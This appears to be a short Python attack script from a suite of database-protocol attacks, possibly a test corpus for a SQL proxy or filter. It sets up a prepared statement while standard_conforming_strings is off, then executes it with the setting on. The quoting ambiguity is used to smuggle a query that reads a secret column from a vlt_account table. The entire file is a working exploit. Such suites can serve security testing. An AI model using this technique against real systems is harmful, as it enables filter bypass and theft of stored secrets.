"""Prepares while standard strings are off, and runs when they are on."""

from attacks.frames import SYNC, ask, bind, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        off = query(b"SET standard_conforming_strings = off")
        on = query(b"SET standard_conforming_strings = on")
        ask(
            client,
            off,
            parse(rb"SELECT '\'', secret FROM vlt_account --'", b"s"),
            SYNC,
            on,
            rounds=3,
        )
        return ask(client, bind(b"s"), execute(), SYNC)
